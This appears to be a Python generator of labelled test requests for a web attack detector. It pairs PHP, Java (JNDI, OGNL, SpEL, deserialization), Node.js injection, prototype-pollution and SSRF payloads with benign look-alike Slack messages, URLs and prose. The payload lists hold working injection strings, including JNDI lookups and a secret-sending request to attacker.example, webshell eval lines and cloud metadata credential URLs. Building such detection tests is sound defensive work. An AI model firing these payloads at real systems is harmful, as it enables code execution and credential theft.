"""Blind examples for PHP injection, Java (JNDI, OGNL, EL/SpEL, reflection, deserialization) and the
"generic" families (Node.js code injection, prototype pollution, SSRF), with benign requests that carry
the same words (Slack messages about code, public URLs, prose).

Written for this repository from general knowledge of each family, before any rule was changed for it (no
payload list or ruleset regression test was read). Each payload goes into three of our input places
(query, form, JSON, cookie, header), rotating. Same record schema as family_gen.py; deterministic.
"""

from __future__ import annotations

import json
import urllib.parse
from collections.abc import Generator, Iterator
from typing import Any

from .family_gen import UA, _form, _get, _json, _query
from .records import numbered, print_records

PHP = [
    # open tags and script blocks
    "<?php echo shell_exec($_GET['x']); ?>",
    "<?PHP\npassthru('id');",
    "<? system('uname -a'); ?>",
    "<?=`id`?>",
    "<?php @eval($_POST[1]);",
    "x<?php phpinfo();?>y",
    # wrappers
    "php://filter/convert.base64-encode/resource=index.php",
    "php://filter/string.rot13/resource=/etc/passwd",
    "PHP://input",
    "php://fd/3",
    "php://memory",
    "phar:///var/www/uploads/img.gif/a.php",
    "phar://./uploads/x.jpg",
    "zip:///tmp/upload.zip#shell.php",
    "compress.zlib://../../config.php",
    "expect://id",
    "expect://ls%20-la",
    "data://text/plain,<?php system('id');?>",
    "data:text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+",
    "glob:///var/www/*",
    # functions through strings, variables and callbacks
    "$a='assert';$a($_POST['p']);",
    "$_GET['f']($_GET['a']);",
    "${'_GET'}[0](${'_GET'}[1])",
    "call_user_func_array('system', ['id'])",
    "array_filter(['id'], 'passthru')",
    "usort($a, 'system')",
    "register_shutdown_function('system', 'id');",
    "preg_replace('/.*/e', 'system(\"id\")', 'x')",
    "$f = \"exec\"; echo $f(\"whoami\");",
    "(\"sys\".\"tem\")(\"id\");",
    "'sys'.'tem'('ls')",
    "chr(115).chr(121).chr(115).chr(116).chr(101).chr(109)",
    "\"\\x73\\x79\\x73\\x74\\x65\\x6d\"('id')",
    "\"\\163\\171\\163\\164\\145\\155\"(\"id\")",
    "system/**/('id');",
    "passthru /* x */ ('cat /etc/passwd');",
    "shell_exec\t(\"id\")",
    "base64_decode('c3lzdGVt')('id')",
    "str_rot13('flfgrz')('id')",
    "eval(gzuncompress(base64_decode('eJwrLi0pzsnXS87PS8tMBwAdYQS+')));",
    "eval(str_rot13('riny($_CBFG[1]);'));",
    "file_get_contents('php://input')",
    "readfile('/etc/passwd');",
    "show_source('index.php');",
    "echo `whoami`;",
    "$x = `cat /etc/passwd`;",
    "print_r($_ENV);",
    "var_dump($GLOBALS);",
    "$HTTP_RAW_POST_DATA",
    "move_uploaded_file($_FILES['f']['tmp_name'], 'x.php');",
    # serialized objects
    "O:4:\"User\":2:{s:4:\"name\";s:5:\"admin\";s:5:\"admin\";b:1;}",
    "O:+8:\"Example1\":1:{s:10:\"cache_file\";s:15:\"../../index.php\";}",
    "a:2:{i:0;s:1:\"x\";i:1;O:7:\"Monolog\":0:{}}",
    "O:15:\"GuzzleHttp\\Psr7\\FnStream\":1:{s:9:\"_fn_close\";s:7:\"phpinfo\";}",
    "C:11:\"ArrayObject\":37:{x:i:0;a:0:{};m:a:0:{}}",
    "O : 3 : \"Foo\" : 0 : { }",
    "o:6:\"Logger\":1:{s:4:\"file\";s:9:\"/tmp/x.php\";}",
    "x=1;O:9:\"Exception\":1:{s:7:\"message\";s:2:\"hi\";}",
    "ini_set('allow_url_include', 1);",
    "putenv('LD_PRELOAD=/tmp/x.so');",
    "mail('a@b.c','','','','-X/var/www/x.php');",
]

JAVA = [
    # JNDI lookups and their obfuscation
    "${jndi:ldaps://203.0.113.9/a}",
    "${jndi:iiop://attacker.example/x}",
    "${jndi:corba://attacker.example/x}",
    "${${lower:J}${lower:N}${lower:D}${lower:I}:ldap://attacker.example/a}",
    "${${upper:j}ndi:rmi://attacker.example/a}",
    "${${::-j}ndi:ldap://attacker.example/a}",
    "${j${::-n}di:ldap://attacker.example/a}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://attacker.example/a}",
    "${jn${lower:d}i:l${lower:d}ap://attacker.example/a}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://attacker.example/a}",
    "${j${k8s:k5:-ND}i:ldap://attacker.example/a}",
    "${${sys:foo:-j}ndi:ldap://attacker.example/a}",
    "${jndi:dns://${env:USER}.attacker.example}",
    "${${base64:JHtqbmRpOmxkYXA6Ly94fQ==}}",
    "$%7Bjndi:ldap://attacker.example/a%7D",
    # OGNL
    "%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{\"id\"})).start()}",
    "%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm)}",
    "${#context[\"com.opensymphony.xwork2.dispatcher.HttpServletResponse\"]}",
    "%25%7B%28%23cmd%3D%27id%27%29%7D",
    "(#_='multipart/form-data').(#cmd='id')",
    "#_memberAccess[\"allowStaticMethodAccess\"]=true",
    "@java.lang.Runtime@getRuntime().exec('id')",
    # EL and SpEL
    "${T(java.lang.Runtime).getRuntime().exec(\"id\")}",
    "#{T(java.lang.Runtime).getRuntime().exec('calc')}",
    "T (java.lang.System).getenv()",
    "${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}",
    "${pageContext.request.getSession().setAttribute('a','b')}",
    "${applicationScope}",
    "#{request.getClass().getClassLoader()}",
    "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null)}",
    "#{''.class.forName('java.lang.Runtime')}",
    # Runtime, ProcessBuilder, reflection
    "Runtime.getRuntime().exec(new String[]{\"sh\",\"-c\",\"id\"})",
    "new ProcessBuilder(\"calc.exe\").start()",
    "Class.forName(\"java.lang.Runtime\").getMethod(\"exec\", String.class)",
    "Thread.currentThread().getContextClassLoader().loadClass(\"x\")",
    "java.lang.reflect.Method m = c.getDeclaredMethod(\"exec\");",
    "javax.script.ScriptEngineManager().getEngineByName(\"js\").eval(\"1\")",
    # Spring4Shell-style property binding
    "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp",
    "class.classLoader.URLs[0]=jar:http://attacker.example/x.jar!/",
    "class['module']['classLoader']['resources']",
    # serialized objects, XStream / Jackson gadgets
    "rO0ABXQABGFiY2Q=",
    "H4sIAAAAAAAAAJVSTW/TQBDd",
    "ACED00057372002E6A617661",
    "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example/a\",\"autoCommit\":true}]",
    "{\"@class\":\"org.springframework.context.support.FileSystemXmlApplicationContext\",\"x\":\"http://a/\"}",
    "<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface></dynamic-proxy></sorted-set>",
    "<map><entry><jdk.nashorn.internal.objects.NativeString/></entry></map>",
    "{\"@type\":\"java.net.Inet4Address\",\"val\":\"attacker.example\"}",
]

NODE = [
    "require(\"child_process\").spawn(\"sh\")",
    "require ( 'child_process' ) . exec ( 'id' )",
    "require('child'+'_process').exec('id')",
    "process.mainModule.constructor._load('child_process').exec('id')",
    "global.process.mainModule.require('fs').readFileSync('/etc/passwd')",
    "globalThis.process.env",
    "this.constructor.constructor('return process')().exit()",
    "this.constructor.constructor(\"return this.process\")()",
    "[].constructor.constructor('return process')()",
    "''.sub.constructor('return process')()",
    "eval('process.exit()')",
    "eval(String.fromCharCode(112,114,111,99,101,115,115))",
    "eval(Buffer.from('cHJvY2Vzcw==','base64').toString())",
    "Function('return process')()",
    "new Function(\"return require\")()",
    "setTimeout('process.exit()', 0)",
    "setInterval(\"require('fs')\", 10)",
    "require('vm').runInNewContext('this.constructor.constructor(\"return process\")()')",
    "vm.runInThisContext('process')",
    "process['mainModule']['require']('child_process')",
    "process.binding('spawn_sync')",
    "child_process.execSync('id').toString()",
    "res.end(require('fs').readdirSync('.').toString())",
    "module.constructor._load('child_process')",
    "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
    "process.kill(process.pid)",
    "process.env.NODE_OPTIONS",
    "import('fs').then(m=>m.readFileSync('/etc/passwd'))",
    "require('http').get('http://attacker.example/'+process.env.SECRET)",
    "Reflect.construct(Function, ['return process'])()",
    "(()=>{}).constructor('return process')()",
    "Object.getPrototypeOf(async function(){}).constructor('return process')()",
    "Object.prototype.polluted = 1",
    "Object.assign(Object.prototype, {isAdmin: true})",
    "x.__proto__.admin = true",
    "obj['__proto__']['isAdmin'] = true",
    "Object.defineProperty(Object.prototype,'x',{value:1})",
    "constructor[prototype][admin]=1",
]
# prototype pollution in bracketed query names and JSON bodies
POLLUTION_QUERIES = [
    "a[__proto__][admin]=1",
    "__proto__[isAdmin]=true",
    "__proto__.isAdmin=true",
    "user[constructor][prototype][role]=admin",
    "constructor[prototype][polluted]=yes",
    "q=x&a[__proto__][toString]=1",
    "filter%5B__proto__%5D%5Badmin%5D=1",
    "x[constructor.prototype][y]=1",
    "__proto__[outputFunctionName]=_tmp1;global.process.mainModule.require('child_process').exec('id');x",
    "a%5B__pro__proto__to__%5D%5Bx%5D=1",
    "settings[__proto__][shell]=/bin/sh",
    "b[__proto__][]=x",
]
POLLUTION_JSON = [
    {"__proto__": {"isAdmin": True}},
    {"name": "a", "__proto__": {"role": "admin"}},
    {"constructor": {"prototype": {"isAdmin": True}}},
    {"profile": {"__proto__": {"polluted": 1}}},
    {"settings": {"constructor": {"prototype": {"shell": "/bin/sh"}}}},
    {"a": [{"__proto__": {"x": 1}}]},
    {"__proto__": {"outputFunctionName": "x;process.mainModule.require('child_process').exec('id');s"}},
    {"prefs": {"constructor": {"prototype": {"toString": "x"}}}},
    {"data": {"__proto__": {"a": 1}}},
    {"__proto__": {"env": {"NODE_OPTIONS": "--require /proc/self/environ"}}},
    {"user": {"__proto__": {"admin": "true"}}},
    {"x": {"y": {"__proto__": {"z": 1}}}},
]

SSRF = [
    "http://127.0.0.1/",
    "http://127.1/admin",
    "http://0/",
    "http://0.0.0.0:22/",
    "http://localhost:6379/",
    "http://LOCALHOST/server-status",
    "http://[::1]/",
    "http://[0:0:0:0:0:ffff:127.0.0.1]/",
    "http://[::ffff:7f00:1]/",
    "http://2130706433/",
    "http://0x7f000001/",
    "http://0177.0.0.1/",
    "http://0x7f.0x0.0x0.0x1/",
    "http://127.0.0.1.nip.io/",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://metadata.google.internal/computeMetadata/v1/",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://169.254.170.2/v2/credentials",
    "http://100.100.100.200/latest/meta-data/",
    "http://192.0.0.192/latest/",
    "http://10.0.0.5:8080/actuator/env",
    "http://192.168.1.1/",
    "http://172.16.0.10:2375/containers/json",
    "https://kubernetes.default.svc/api/v1/secrets",
    "http://user:pass@127.0.0.1:8080/",
    "http://attacker.example@127.0.0.1/",
    "http://127.0.0.1#@attacker.example/",
    "http://①②⑦.⓪.⓪.①/",
    "http://127。0。0。1/",
    "gopher://127.0.0.1:6379/_SET%20x%201",
    "gopher://localhost:25/_HELO",
    "dict://127.0.0.1:11211/stats",
    "file:///etc/passwd",
    "file://localhost/etc/shadow",
    "FILE:///c:/windows/win.ini",
    "ldap://127.0.0.1:389/",
    "tftp://attacker.example/x",
    "sftp://attacker.example:22/",
    "netdoc:///etc/passwd",
    "jar:http://attacker.example/a.jar!/",
    "http://0x7f000001:80/",
    "http://127.0.0.1:2379/v2/keys",
    "//127.0.0.1/admin",
    "http://localtest.me/",
    "http://spoofed.burpcollaborator.net/",
    "http://[::]:80/",
    "http://0000::1/",
    "http://017700000001/",
    "http://consul.service.consul:8500/v1/agent/self",
    "http://metadata/computeMetadata/v1/instance/",
]

FAMILIES = {"php": PHP, "java": JAVA, "generic": NODE + SSRF}
SUB = {"php": "php", "java": "java"}
PLACES = ["query", "form", "json", "cookie", "header"]
PARAMS = ["q", "name", "url", "file", "data", "callback", "search", "redirect"]


def three_places(i: int, names: list[str]) -> list[tuple[str, str]]:
    """Where the i-th payload of a list goes: three of PLACES, rotating, each with a parameter name of `names`
    rotating alongside."""
    return [(PLACES[(i + k) % len(PLACES)], names[(i + k) % len(names)]) for k in range(3)]


def _cookie(value: str) -> dict[str, Any]:
    return {**_get("/api/users?page=1"), "headers": {"User-Agent": UA, "Accept": "application/json",
                                                       "Cookie": "session=abc123; prefs=" + urllib.parse.quote(value)}}


def _header(value: str) -> dict[str, Any]:
    return {**_get("/api/users?page=1"), "headers": {"User-Agent": UA, "Accept": "application/json",
                                                       "X-Api-Version": value.replace("\n", " ")}}


def _place(place: str, name: str, value: str) -> dict[str, Any]:
    if place == "query":
        return _get(_query("/api/users", [(name, value), ("page", "1")]))
    if place == "form":
        return _form("/admin/users/search", [("csrf_token", "t0k3n"), (name, value)])
    if place == "json":
        return _json("/api/users", {"email": "a@example.org", name: value})
    if place == "cookie":
        return _cookie(value)
    return _header(value)


def _sub(family: str, payload: str) -> str:
    if family != "generic":
        return family
    return "ssrf" if payload in SSRF else "nodejs"


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    for family, payloads in FAMILIES.items():
        for i, p in enumerate(payloads):
            for place, name in three_places(i, PARAMS):
                n += 1
                yield {**_place(place, name, p), "id": f"blind-{family}-{n:04d}",
                       "category": family, "sub": _sub(family, p), "placement": place}
    for i, qs in enumerate(POLLUTION_QUERIES):
        for k, path in enumerate(("/api/users?", "/api/users?page=2&")):
            yield {**_get(path + qs), "id": f"blind-generic-pq{i}-{k}", "category": "generic",
                   "sub": "pollution", "placement": "query"}
    for i, doc in enumerate(POLLUTION_JSON):
        for k, uri in enumerate(("/api/users", "/api/users/42")):
            yield {**_json(uri, doc), "id": f"blind-generic-pj{i}-{k}", "category": "generic", "sub": "pollution",
                   "placement": "json"}


def slack_message(text: str, n: int, epoch: int = 1719000000) -> dict[str, Any]:
    """An Events API message callback carrying `text`, the n-th of its set (the replayer signs it)."""
    event = {"type": "message", "user": "U012345678", "text": text, "ts": f"{epoch // 1000}{n:03d}.000100",
             "channel": "C0123456789", "event_ts": f"{epoch // 1000}{n:03d}.000100"}
    body = {"token": "verification-token", "team_id": "T061EG9R6", "api_app_id": "A0PNCHHK2",
            "event": event, "type": "event_callback", "event_id": f"Ev{n:09d}", "event_time": epoch + n}
    return {"method": "POST", "uri": "/slack/events", "body": json.dumps(body, ensure_ascii=False),
            "headers": {"User-Agent": "Slackbot 1.0 (+https://api.slack.com/robots)",
                        "Content-Type": "application/json", "X-Slack-Request-Timestamp": str(epoch),
                        "X-Slack-Signature": "v0=" + "0" * 64}}


def bio_request(text: str) -> dict[str, Any]:
    """A profile saved with `text` as its bio."""
    return _json("/api/users", {"name": "Ann", "bio": text})


def chat_and_bio(texts: list[str], prefix: str, epoch: int = 1719000000) -> Generator[dict[str, Any], None, int]:
    """Each text as a Slack message and as a bio, numbered on from 1 (ids `prefix`-slack-NNNN and
    `prefix`-bio-NNNN); returns the last number, for the records that follow."""
    n = 0
    for text in texts:
        n += 1
        yield {**slack_message(text, n, epoch),
               "id": f"{prefix}-slack-{n:04d}", "category": "benign", "placement": "json"}
        n += 1
        yield {**bio_request(text), "id": f"{prefix}-bio-{n:04d}",
               "category": "benign", "placement": "json"}
    return n


def link_requests(url: str) -> tuple[dict[str, Any], dict[str, Any]]:
    """`url` as a profile's website and avatar, and as a search's referring link."""
    return (_json("/api/users", {"name": "Ann", "website": url, "avatar_url": url}),
            _get(_query("/api/users", [("q", "ann"), ("ref", url)])))


def prose_request(text: str) -> dict[str, Any]:
    """`text` typed into the admin panel's search box."""
    return _form("/admin/users/search", [("csrf_token", "t0k3n"), ("q", text)])


def links_and_prose(urls: list[str], texts: list[str], prefix: str,
                    n: int) -> Generator[dict[str, Any], None, int]:
    """Each URL as link_requests, then each text as prose_request, numbered on from n (ids `prefix`-url-NNNN
    and `prefix`-prose-NNNN); returns the last number."""
    for url in urls:
        for rec in link_requests(url):
            n += 1
            yield {**rec, "id": f"{prefix}-url-{n:04d}", "category": "benign", "placement": "mixed"}
    n = yield from numbered((prose_request(text) for text in texts), f"{prefix}-prose", n, "form")
    return n


# Benign: developers talking about the same code, public URLs, prose.
SLACK_TEXTS = [
    "anyone know why `<?php` tags break in our blade templates? php 8.2 here",
    "PHP's serialize() output looks like a:2:{...} but don't store that in cookies",
    "the php-fpm pool ran out of workers again, bumping pm.max_children",
    "composer require guzzlehttp/guzzle then run the phpunit suite",
    "we dropped the eval of user input from the legacy admin, good riddance",
    "system tests pass on staging; exec summary goes out Friday",
    "the include path for the old wiki is /usr/share/php",
    "reading about php://filter attacks, scary stuff, we should audit uploads",
    "Java 21 virtual threads are great, ProcessBuilder still blocks though",
    "log4j 2.17 everywhere now; jndi lookups are off by default",
    "our Spring Boot app uses SpEL in @Value annotations only",
    "Runtime.getRuntime() is fine in the CLI tool, not in the web app",
    "the class loader leak in Tomcat is fixed by the restart",
    "Jackson default typing stays disabled, please keep it that way",
    "Node 20 LTS upgrade is done; child processes now use execa",
    "the constructor in that class sets up the prototype chain",
    "process.env is read once at startup in config.ts",
    "use require('express') and require('cors'), not the fs module",
    "setTimeout with a function, never with a string, in the review checklist",
    "Object.freeze on the config object avoids accidental writes",
    "prototype pollution talk at the meetup was good, slides in the drive",
    "the metadata service credentials rotate hourly",
    "localhost:3000 is the dev server, 8080 the API",
    "internal wiki moved to wiki.corp, ask IT for access",
    "ping me when the build is green; I'll run the smoke test",
    "the O'Reilly book on Java concurrency is on the shelf",
    "mail from the printer says toner low, again",
    "our gopher mascot for the Go team is ready",
    "I set the file field to report.pdf and it uploaded fine",
    "rename the function to getUserById please",
    "a:hover colors look off in dark mode",
    "the data: URLs for icons are inlined by webpack",
    "cost per request is $0.0002, so 1M requests is $200",
    "meeting at 10.0 on Friday, room 127",
    "see you at 16:30, the train leaves at 17.05",
    "the javascript eval benchmark numbers are in the sheet",
    "we call the Function Registry service for lookups",
    "class module loader diagram is in Confluence",
    "the phar archive for deployer is in tools/",
    "the expect library for tests is chai",
]
PUBLIC_URLS = [
    "https://www.php.net/manual/en/function.system.php",
    "https://docs.oracle.com/javase/8/docs/api/java/lang/Runtime.html",
    "https://nodejs.org/api/child_process.html",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/Object/proto",
    "https://logging.apache.org/log4j/2.x/manual/lookups.html",
    "https://spring.io/projects/spring-framework",
    "https://github.com/acme/api/blob/main/src/index.php",
    "https://example.com/files/report.pdf",
    "https://cdn.example.org/js/app.js?v=1.2.3",
    "https://api.example.com/v1/webhooks/incoming",
    "https://8.8.8.8/",
    "https://hooks.slack.com/services/T0/B0/XYZ",
    "https://en.wikipedia.org/wiki/Server-side_request_forgery",
    "https://www.example.co.uk/products?id=127",
    "https://blog.example.com/2024/01/10/java-17-records",
]
PROSE = [
    "Runtime of the job was 10 minutes, process took longer than expected",
    "the class was forced to name a new prototype",
    "Our system exec team met with the Java user group",
    "Constructor Ltd., 10 Prototype Lane",
    "Dear Sir, please find attached the ${amount} invoice",
    "price is 5 EUR (incl. VAT); shipping at cost",
    "looking up the phone number in the directory",
    "File: quarterly-report.docx, Data: attached",
    "the global process for onboarding is documented",
    "require two approvals for production deploys",
]


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(SLACK_TEXTS, "blindben")
    yield from links_and_prose(PUBLIC_URLS, PROSE, "blindben", n)


if __name__ == "__main__":
    print_records(attacks(), benign())
